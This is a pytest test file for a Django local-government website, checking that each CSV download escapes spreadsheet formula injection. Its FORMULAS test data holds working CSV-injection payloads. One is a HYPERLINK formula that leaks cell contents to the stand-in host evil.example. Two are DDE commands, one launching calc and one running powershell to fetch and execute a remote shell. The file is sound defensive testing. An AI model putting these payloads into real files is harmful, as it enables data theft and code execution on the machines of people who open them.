"""Every CSV download is safe to open in a spreadsheet: text that would start a formula is shown as text.

localism.exports.csv_safe puts a single quote before a cell that starts with =, +, -, @, a tab or a
carriage return, unless the whole cell is a plain number (so that -200.00 stays a number).
"""

import codecs
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from consultations.models import Answer, Question
from localism.exports import csv_safe
from tests.clients import signed_in
from tests.consultations.factories import ConsultationFactory, QuestionFactory
from tests.directory.factories import ListingFactory, LocationFactory, OrganisationFactory
from tests.downloads import downloaded_bytes, downloaded_csv_rows
from tests.transparency.factories import (
    AssetNominationFactory,
    ContractFactory,
    DecisionFactory,
    GrantFactory,
    NoticeFactory,
    SpendingRecordFactory,
)
from transparency.models import AssetNomination

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget evil.example/shell)'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert downloaded_bytes(response).startswith(codecs.BOM_UTF8)
    return downloaded_csv_rows(response)


def assert_neutralised(rows: list[list[str]], values) -> None:
    """Each value is in the file exactly as csv_safe makes it (a leading quote), never as a bare formula."""
    cells = [cell for row in rows for cell in row]
    for value in values:
        assert "'" + value in cells, f"{value!r} is not in the file as '{value!r}"
        assert value not in cells, f"{value!r} is in the file as a formula"
    assert_no_formula_cells(rows)


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell anywhere in the file (the header too) starts a formula, unless it is a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    pytest.fail(f"{cell!r} would run as a formula")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-200.00", "-200.00"),
        ("+44", "+44"),
        (-5, "-5"),
        (None, ""),
        ("Plain text", "Plain text"),
    ],
)
def test_csv_safe_quotes_exactly_what_could_start_a_formula(value, expected):
    assert csv_safe(value) == expected


def test_the_check_catches_a_formula_that_got_through():
    with pytest.raises(AssertionError):
        assert_neutralised([["=1+1"]], ["=1+1"])
    with pytest.raises(pytest.fail.Exception):
        assert_no_formula_cells([["@SUM(1)"]])
    assert_neutralised([["'=1+1", "-200.00"]], ["=1+1"])


def test_the_directory_download_neutralises_formulas(client):
    organisation = OrganisationFactory(name="=cmd|' /C calc'!A0")
    for number, formula in enumerate(FORMULAS):
        listing = ListingFactory(
            organisation=organisation,
            phone=f"+{number}-cmd",
            **dict.fromkeys(("name", "summary", "description", "eligibility", "cost_description"), formula),
        )
        LocationFactory(listing=listing, name=formula, address_1=formula, city=formula)
    rows = read_csv(client.get(reverse("directory:search_csv")))
    assert len(rows) == len(FORMULAS) + 1
    assert_neutralised(rows, [*FORMULAS, "=cmd|' /C calc'!A0"])


def test_the_staff_listing_export_neutralises_formulas(staff_client):
    listings = [ListingFactory(name=formula, summary=formula) for formula in FORMULAS]
    response = staff_client.post(
        reverse("admin:directory_listing_changelist"),
        {"action": "export_csv", "_selected_action": [x.pk for x in listings]},
    )
    assert_neutralised(read_csv(response), FORMULAS)


def test_the_spending_download_neutralises_formulas(client):
    text = ("beneficiary_name", "purpose", "expense_type", "service_area", "organisational_unit", "merchant_category")
    for formula in FORMULAS:
        SpendingRecordFactory(**dict.fromkeys(text, formula))
    SpendingRecordFactory(amount="-200.00", purpose="A refund")
    rows = read_csv(client.get(reverse("transparency:spending_download", kwargs={"fmt": "csv"})))
    assert_neutralised(rows, FORMULAS)
    assert "-200.00" in [cell for row in rows for cell in row], "a negative amount stays a number"


def test_the_contracts_download_neutralises_formulas(client):
    for formula in FORMULAS:
        ContractFactory(title=formula, description=formula, supplier_name=formula, department=formula)
    assert_neutralised(
        read_csv(client.get(reverse("transparency:contracts_download", kwargs={"fmt": "csv"}))), FORMULAS
    )


def test_the_grants_download_neutralises_formulas(client):
    for formula in FORMULAS:
        GrantFactory(title=formula, description=formula, recipient_org_name=formula, funding_org_name=formula)
    assert_neutralised(read_csv(client.get(reverse("transparency:grants_download", kwargs={"fmt": "csv"}))), FORMULAS)


def test_the_decisions_download_neutralises_formulas(client):
    for formula in FORMULAS:
        DecisionFactory(title=formula, summary=formula, decision_maker=formula)
    assert_neutralised(
        read_csv(client.get(reverse("transparency:decisions_download", kwargs={"fmt": "csv"}))), FORMULAS
    )


@pytest.mark.parametrize("status", [AssetNomination.Status.LISTED, AssetNomination.Status.NOT_LISTED])
def test_the_assets_downloads_neutralise_formulas(client, status):
    for formula in FORMULAS:
        AssetNominationFactory(
            status=status, **dict.fromkeys(("asset_name", "address", "body_name", "reasons"), formula)
        )
    which = "listed" if status == AssetNomination.Status.LISTED else "unsuccessful"
    assert_neutralised(read_csv(client.get(f"/transparency/assets/{which}.csv")), FORMULAS)


def test_the_notices_download_neutralises_formulas(client):
    for number, formula in enumerate(FORMULAS):
        NoticeFactory(title=formula, slug=f"formula-{number}", body=formula, venue=formula)
    address = reverse("transparency:notices_download", kwargs={"fmt": "csv"})
    assert_neutralised(read_csv(client.get(address, {"shown": "current"})), FORMULAS)


def test_the_asset_transfers_download_neutralises_formulas(client, make_application):
    for formula in FORMULAS:
        make_application("business_case", name=formula)
    address = reverse("asset_transfers:list_download", kwargs={"fmt": "csv"})
    assert_neutralised(read_csv(client.get(address)), FORMULAS)


def test_the_neighbourhood_plans_download_neutralises_formulas(client, make_plan):
    from neighbourhood_plans.models import NeighbourhoodPlan

    for number, formula in enumerate(FORMULAS):
        plan = make_plan(parish=f"Parish {number}")
        NeighbourhoodPlan.objects.filter(pk=plan.pk).update(name=formula, qualifying_body=formula)
    address = reverse("neighbourhood_plans:list_download", kwargs={"fmt": "csv"})
    assert_neutralised(read_csv(client.get(address)), FORMULAS)


def test_the_budget_simulator_download_neutralises_formulas(client):
    from budget_simulator import services
    from budget_simulator.models import BudgetSimulator, ServiceArea
    from tests.budget_simulator.factories import make_simulator
    from tests.factories import UserFactory

    simulator = make_simulator()
    BudgetSimulator.objects.filter(pk=simulator.pk).update(title=FORMULAS[0])
    libraries = simulator.services.get(name="Libraries")
    ServiceArea.objects.filter(pk=libraries.pk).update(name=FORMULAS[1], cuts=[FORMULAS[2], FORMULAS[3]])
    simulator.refresh_from_db()
    home_care = simulator.services.get(name="Home care")
    services.budget_submit(
        simulator=simulator,
        respondent=UserFactory(),
        steps={libraries.pk: -2, home_care.pk: -1},
        council_tax_steps=1,
    )
    consultation = simulator.consultation
    consultation.closes_at = timezone.now() - timedelta(minutes=1)
    consultation.save()
    address = reverse("budget_simulator:download", kwargs={"fmt": "csv"})
    assert_neutralised(read_csv(client.get(address, {"simulator": consultation.slug})), FORMULAS[:2] + FORMULAS[3:4])


def test_the_consultations_list_download_neutralises_formulas(client):
    for number, formula in enumerate(FORMULAS):
        ConsultationFactory(title=formula, slug=f"formula-{number}", summary=formula, decision_maker=formula)
    address = reverse("consultations:list_download", kwargs={"fmt": "csv"})
    assert_neutralised(read_csv(client.get(address, {"status": "open"})), FORMULAS)


def test_the_survey_responses_download_neutralises_formulas_in_answers_and_questions(staff_client):
    consultation = ConsultationFactory()
    short = QuestionFactory(consultation=consultation, kind=Question.Kind.TEXT, text="=Your village")
    long = QuestionFactory(consultation=consultation, kind=Question.Kind.LONG_TEXT, text="@Anything else")
    choice = QuestionFactory(consultation=consultation, kind=Question.Kind.SINGLE, options=["=1+1", "No"])
    from tests.factories import UserFactory

    for formula in FORMULAS:
        respondent = signed_in(UserFactory())
        response = respondent.post(
            reverse("consultations:respond", kwargs={"slug": consultation.slug}),
            {f"q{short.pk}": formula[:500], f"q{long.pk}": f"{formula}\nsecond line", f"q{choice.pk}": "0"},
        )
        assert response.status_code == 302
    stored = set(Answer.objects.exclude(text="").values_list("text", flat=True))
    assert all(text.startswith(FORMULA_START) for text in stored)
    rows = read_csv(staff_client.get(reverse("consultations:responses_csv", kwargs={"slug": consultation.slug})))
    assert len(rows) == len(FORMULAS) + 1
    assert_neutralised(rows, stored)


def test_the_equality_report_download_has_no_formula_cells(staff_client):
    consultation = ConsultationFactory(
        opens_at=timezone.now() - timedelta(days=30), closes_at=timezone.now() - timedelta(days=1)
    )
    rows = read_csv(
        staff_client.get(
            reverse("consultations:equality_report", kwargs={"slug": consultation.slug}), {"format": "csv"}
        )
    )
    assert rows[0] == [
        "question",
        "answer",
        "people",
        "share of respondents (%)",
        "share of the area's population (%)",
        "under-represented",
    ]
    assert_no_formula_cells(rows)


def test_the_partnerships_download_neutralises_formulas(client):
    from tests.factories import PlaceFactory
    from tests.partnerships.factories import PartnershipFactory

    for number, formula in enumerate(FORMULAS):
        partnership = PartnershipFactory(name=formula, summary=formula)
        partnership.places.add(PlaceFactory(name=formula, slug=f"formula-place-{number}"))
    address = reverse("partnerships:list_download", kwargs={"fmt": "csv"})
    assert_neutralised(read_csv(client.get(address)), FORMULAS)


# The CSV downloads tested above, by URL name; a new one fails the next test until it is tested here too.
COVERED_CSV_DOWNLOADS = {
    "directory:search_csv",
    "transparency:spending_download",
    "transparency:contracts_download",
    "transparency:grants_download",
    "transparency:decisions_download",
    "transparency:notices_download",
    "transparency:assets_download",
    "asset_transfers:list_download",
    "neighbourhood_plans:list_download",
    "budget_simulator:download",
    "consultations:responses_csv",
    "consultations:list_download",
    "partnerships:list_download",
}


def test_every_csv_download_address_is_covered_here():
    from tests.security.test_csrf import ROUTES

    csv_routes = {route.name for route in ROUTES if "csv" in str(route.pattern.pattern)}
    assert csv_routes == COVERED_CSV_DOWNLOADS
